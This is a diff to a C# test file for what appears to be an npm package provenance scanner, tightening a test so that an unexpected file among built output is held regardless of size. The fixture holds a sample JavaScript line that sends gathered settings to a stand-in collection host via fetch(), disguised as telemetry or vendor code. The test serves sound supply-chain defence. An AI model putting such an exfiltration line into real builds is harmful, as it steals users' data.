@@ -131,7 +131,7 @@ public sealed class FileOriginTests
     }
 
     [Fact]
-    public void A_small_strange_file_among_what_was_built_is_held_and_a_large_one_is_not()
+    public void A_strange_file_among_what_was_built_is_held_whatever_its_size()
     {
         const string Strange = "const parts = ['collect'];\nfetch('https://collect.example.invalid/' + parts[0], { body: gatherEverything(settings) });\n";
         (string, string)[] built = [.. Enumerable.Range(1, 4).Select(i => ($"dist/part{i}.js", Minified(i)))];
@@ -139,7 +139,9 @@ public sealed class FileOriginTests
 
         var finding = Assert.Single(Npm(source, [.. built, ("dist/telemetry.js", Strange)]).Findings, finding => finding.Finding.Rule.Id == "provenance/source-mismatch");
         Assert.Equal((Severity.High, Confidence.Low, PolicyAction.Hold), (finding.Finding.Severity, finding.Finding.Confidence, finding.Action));
-        Assert.DoesNotContain("source-mismatch High", SourceFolder.Provenance(Npm(source, [.. built, ("dist/vendor.js", Strange + Minified(900, 200))])));
+        var large = Assert.Single(Npm(source, [.. built, ("dist/vendor.js", Strange + Minified(900, 200))]).Findings, finding => finding.Finding.Rule.Id == "provenance/source-mismatch");
+        Assert.Equal((Severity.High, Confidence.Low, PolicyAction.Hold), (large.Finding.Severity, large.Finding.Confidence, large.Action));
+        Assert.DoesNotContain("source-mismatch High", SourceFolder.Provenance(Npm(source, [.. built, ("dist/vendor.js", Minified(900, 200))])));
     }
 
     [Fact]
